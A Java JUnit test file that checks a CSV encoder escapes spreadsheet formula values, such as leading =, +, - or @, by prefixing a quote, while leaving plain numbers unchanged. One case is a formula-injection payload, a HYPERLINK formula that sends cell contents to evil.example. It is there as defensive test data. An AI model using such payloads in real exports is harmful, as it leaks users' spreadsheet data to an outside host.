package dev.lambda.serving.http;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.lambda.common.time.Granularity;
import dev.lambda.common.view.ViewCatalogLoader;
import dev.lambda.common.view.ViewDefinition;
import dev.lambda.serving.query.Answer;
import dev.lambda.serving.query.Query;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class AnswerEncodingTest {

    private static final ViewDefinition SALES = new ViewCatalogLoader().load(Path.of("..", "config", "views.yml")).find("sales")
            .orElseThrow();
    private static final Instant NINE = Instant.parse("2026-11-21T09:00:00Z");

    private static String csv(List<String> products, BigDecimal revenue) {
        Query q = new Query(SALES, NINE, NINE.plusSeconds(3600), null, List.of(1), List.of("product", "country"), Map.of(), "bucket",
                false, 0);
        return AnswerEncoding.csv(new Answer(q, Granularity.MINUTE, 1L, NINE, null,
                List.of(new Answer.Row(null, products, Arrays.asList(revenue)))));
    }

    @Test
    void aDimensionValueASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
        String[][] cases = {
            {"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\""},
            {"+1+1", "'+1+1"},
            {"-2+3", "'-2+3"},
            {"@SUM(A1)", "'@SUM(A1)"},
            {"\tx", "'\tx"},
            {"\rx", "\"'\rx\""},
            {"-05:00", "'-05:00"},
            {"-1+1", "'-1+1"},
            {"+-", "'+-"},
            {"-", "-"}, // a lone sign or a plain number is no formula: as it is
            {"+", "+"},
            {"-5", "-5"},
            {"+1.50", "+1.50"},
            {"-.5", "-.5"},
        };
        for (String[] c : cases) {
            assertEquals("product,country,revenue\r\n" + c[1] + ",NP,1.00\r\n", csv(List.of(c[0], "NP"), new BigDecimal("1.00")), c[0]);
        }
    }

    @Test
    void metricsAndOrdinaryValuesAreWrittenAsTheyAre() {
        assertEquals("product,country,revenue\r\nplain,a=b,-3.50\r\n", csv(List.of("plain", "a=b"), new BigDecimal("-3.50")));
        assertEquals("product,country,revenue\r\n,NP,\r\n", csv(List.of("", "NP"), null), "no value and an empty value stay empty");
    }
}
